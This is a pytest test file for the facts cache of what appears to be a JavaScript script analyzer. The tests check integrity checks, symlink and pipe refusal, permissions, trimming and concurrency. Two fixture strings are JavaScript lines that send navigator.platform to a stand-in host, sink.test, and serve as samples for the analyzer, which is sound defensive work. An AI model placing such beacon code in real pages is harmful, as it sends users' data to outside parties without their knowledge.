"""The cache of facts: known scripts are not read twice, and nothing that lies in its folder can do harm."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import msgspec
import pytest

from undertow import reading
from undertow.model import Gap, ScriptFacts
from undertow.reading import engine
from undertow.reading.cache import FactsCache

CODE = b"fetch('https://sink.test/p?' + navigator.platform)"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return tmp_path / "cache"


@pytest.fixture
def facts() -> ScriptFacts:
    return reading.read_one(CODE)


def entries(folder: Path) -> list[Path]:
    return sorted(folder.glob("facts/*/*"))


def test_what_was_read_is_found_again(folder: Path, facts: ScriptFacts) -> None:
    FactsCache(folder).put(facts)
    assert FactsCache(folder).get(facts.sha256) == facts


def test_a_script_that_was_not_read_is_not_known(folder: Path) -> None:
    assert FactsCache(folder).get("0" * 64) is None


def test_another_version_of_the_reader_knows_nothing_of_it(folder: Path, facts: ScriptFacts) -> None:
    FactsCache(folder, "a" * 16).put(facts)
    assert FactsCache(folder, "b" * 16).get(facts.sha256) is None


@pytest.mark.parametrize("harm", [b"", b"x" * 40, b"\0" * 10_000], ids=["empty", "short", "zeros"])
def test_a_damaged_entry_is_ignored_and_written_anew(folder: Path, facts: ScriptFacts, harm: bytes) -> None:
    cache = FactsCache(folder)
    cache.put(facts)
    (entry,) = entries(folder)
    entry.write_bytes(harm)
    assert cache.get(facts.sha256) is None
    assert reading.read_one(CODE, cache) == facts
    assert cache.get(facts.sha256) == facts


def test_one_changed_bit_is_noticed(folder: Path, facts: ScriptFacts) -> None:
    cache = FactsCache(folder)
    cache.put(facts)
    (entry,) = entries(folder)
    content = bytearray(entry.read_bytes())
    content[len(content) // 2] ^= 1
    entry.write_bytes(content)
    assert cache.get(facts.sha256) is None


def test_the_entry_of_another_script_is_not_taken(folder: Path, facts: ScriptFacts) -> None:
    cache = FactsCache(folder)
    cache.put(facts)
    (entry,) = entries(folder)
    other = "f" * 64
    (folder / "facts" / "ff").mkdir()
    entry.rename(folder / "facts" / "ff" / entry.name.replace(facts.sha256, other))
    assert cache.get(other) is None


def test_a_link_or_pipe_in_place_of_an_entry_is_not_opened(folder: Path, facts: ScriptFacts, tmp_path: Path) -> None:
    cache = FactsCache(folder)
    cache.put(facts)
    (entry,) = entries(folder)
    entry.rename(tmp_path / "elsewhere")
    entry.symlink_to(tmp_path / "elsewhere")
    assert cache.get(facts.sha256) is None
    entry.unlink()
    os.mkfifo(entry)
    assert cache.get(facts.sha256) is None


def test_only_the_user_can_read_what_was_scanned(folder: Path, facts: ScriptFacts) -> None:
    FactsCache(folder).put(facts)
    assert all(path.stat().st_mode & 0o077 == 0 for path in [folder / "facts", *folder.rglob("facts/*")])


def test_a_folder_that_others_can_write_in_is_not_used(folder: Path) -> None:
    folder.mkdir()
    folder.chmod(0o777)
    assert not FactsCache(folder).usable


def test_a_folder_that_cannot_be_made_costs_nothing_but_time(tmp_path: Path, facts: ScriptFacts) -> None:
    (tmp_path / "file").write_text("")
    cache = FactsCache(tmp_path / "file" / "cache")
    cache.put(facts)
    assert not cache.usable
    assert reading.read_one(CODE, cache) == facts


def test_what_the_load_of_the_machine_may_have_cut_short_is_not_kept(folder: Path, facts: ScriptFacts) -> None:
    stopped = Gap(stage="analysis", kind="decode-stopped", where="x", why="The decoder had to be ended.")
    FactsCache(folder).put(msgspec.structs.replace(facts, gaps=(stopped,)))
    assert entries(folder) == []


def test_the_entries_longest_unused_go_when_there_are_too_many(folder: Path, facts: ScriptFacts) -> None:
    FactsCache(folder).put(facts)
    limit = 10 * FactsCache(folder).usage().bytes
    cache = FactsCache(folder, limit=limit)
    for number in range(20):
        cache.put(msgspec.structs.replace(facts, sha256=f"{number:064x}"))
        old = time.time() - 10_000 + number
        os.utime(next(folder.glob(f"facts/*/{number:064x}*")), (old, old))
    cache.get(f"{0:064x}")  # used just now
    cache.trim()
    assert cache.usage().bytes <= limit
    assert cache.get(f"{0:064x}") is not None
    assert cache.get(f"{1:064x}") is None
    assert cache.get(f"{19:064x}") is not None


def test_what_broken_off_runs_left_is_cleared_away_and_what_is_being_written_is_not(
    folder: Path, facts: ScriptFacts
) -> None:
    cache = FactsCache(folder)
    cache.put(facts)
    place = entries(folder)[0].parent
    for name, age in (("old.part", 100_000.0), ("new.part", 0.0)):
        (place / name).write_bytes(b"x")
        os.utime(place / name, (time.time() - age,) * 2)
    cache.trim()
    assert {path.name for path in place.glob("*.part")} == {"new.part"}


def test_facts_say_nothing_about_where_the_script_came_from(folder: Path) -> None:
    cache = FactsCache(folder)
    broken = b"let = = = ; fetch('https://sink.test/'+navigator.platform); ))) ]]] }"
    first = reading.read_one(broken, cache)
    assert first.gaps
    named = reading.named(first, "secret/path/login.js")
    assert {gap.where for gap in named.gaps} == {"secret/path/login.js"}
    assert not any(b"secret" in path.read_bytes() for path in entries(folder))
    assert {gap.where for gap in reading.named(first, "other.js").gaps} == {"other.js"}


def test_processes_may_write_the_same_entry_at_once(folder: Path, facts: ScriptFacts) -> None:
    write = (
        "import sys; from pathlib import Path; from undertow import reading\n"
        "cache = reading.FactsCache(Path(sys.argv[1])); facts = reading.read_one(sys.argv[2].encode())\n"
        "for _ in range(200): cache.put(facts); assert cache.get(facts.sha256) == facts"
    )
    running = [subprocess.Popen([sys.executable, "-c", write, folder, CODE]) for _ in range(3)]
    assert [process.wait() for process in running] == [0, 0, 0]
    assert FactsCache(folder).get(facts.sha256) == facts
    assert [path.suffix for path in entries(folder)] == [".facts"]


def test_a_known_script_is_answered_within_five_milliseconds(folder: Path) -> None:
    source = (Path(__file__).parents[1] / "analysis/fixtures/gate.heavy.580.js").read_bytes()
    cache = FactsCache(folder)
    reading.read_one(source, cache)
    spent = []
    for _ in range(20):
        start = time.perf_counter()
        reading.read_one(source, cache)
        spent.append(time.perf_counter() - start)
    assert min(spent) < 0.005


@pytest.mark.parametrize(
    ("variables", "expected"),
    [
        ({"UNDERTOW_CACHE": "/x/y"}, "/x/y"),
        ({"XDG_CACHE_HOME": "/c"}, "/c/undertow"),
        ({"XDG_CACHE_HOME": "relative"}, "/home/u/.cache/undertow"),
        ({}, "/home/u/.cache/undertow"),
    ],
)
def test_the_folder_follows_the_users_settings(
    monkeypatch: pytest.MonkeyPatch, variables: dict[str, str], expected: str
) -> None:
    for name in ("UNDERTOW_CACHE", "XDG_CACHE_HOME"):
        monkeypatch.delenv(name, raising=False)
    for name, value in (variables | {"HOME": "/home/u"}).items():
        monkeypatch.setenv(name, value)
    assert reading.folder() == Path(expected)


def test_the_reader_is_another_one_when_a_line_of_its_code_changes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("analysis", "model"):
        (tmp_path / name).mkdir()
    (tmp_path / "analysis" / "flow.py").write_text("a = 1")
    monkeypatch.setattr(engine, "_PACKAGE", tmp_path)
    before = engine.engine_version.__wrapped__()
    os.utime(tmp_path / "analysis" / "flow.py", (1, 1))
    assert engine.engine_version.__wrapped__() == before, "the date of a file says nothing"
    (tmp_path / "analysis" / "flow.py").write_text("a = 2")
    assert engine.engine_version.__wrapped__() != before
